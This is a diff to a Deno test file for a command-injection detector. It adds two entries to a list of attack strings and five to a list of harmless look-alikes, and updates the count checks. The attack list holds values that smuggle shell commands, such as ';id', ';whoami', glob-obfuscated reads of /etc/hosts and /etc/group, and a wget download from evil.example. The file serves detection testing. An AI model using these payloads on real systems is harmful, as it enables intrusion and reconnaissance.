@@ -8,6 +8,8 @@ const ATTACKS: readonly string[] = [
   "a;id",
   "127.0.0.1;whoami",
   "8.8.8.8 | sort /tmp/x > /var/www/y",
+  "/???/c?t /etc/hosts",
+  "x?u=http://a.example/?w=8&id=;id",
   "8.8.8.8 | grep -r x /home",
   "x; cd /tmp; wget http://evil.example/a",
   "127.0.0.1|cat /etc/group",
@@ -124,17 +126,22 @@ const INNOCENT: readonly string[] = [
   "print(f\"{os.environ.get('HOME')}/cat\")",
   'TL;DR: cat /srv/june.csv | grep -i "total sum" | sort -u',
   "TL;DR: cat ~/notes.txt | head -6",
+  "/document[7]/*/notes",
+  "/*/cat-details/*",
+  "hall == 3 && file ~= 'oil lamp'",
+  'size(hall) > 3 || (node > "oil")',
+  '<img src="https://img.example/a.jpg?w=8&h=6" alt="=> column 24/7">',
   "call('id')?",
 ];
 
 Deno.test("rce detects commands that break out of a value", () => {
   for (const text of ATTACKS) assert.equal(pointsIn(rce, text), 5, text);
-  assert.equal(ATTACKS.length, 62);
+  assert.equal(ATTACKS.length, 64);
 });
 
 Deno.test("rce lets honest text pass at level 1", () => {
   for (const text of INNOCENT.slice(0, -1)) assert.deepEqual(rulesIn(rce, text), [], text);
-  assert.equal(INNOCENT.length, 56);
+  assert.equal(INNOCENT.length, 61);
 });
 
 Deno.test("rce reports a command line without a break-out at level 3", () => {
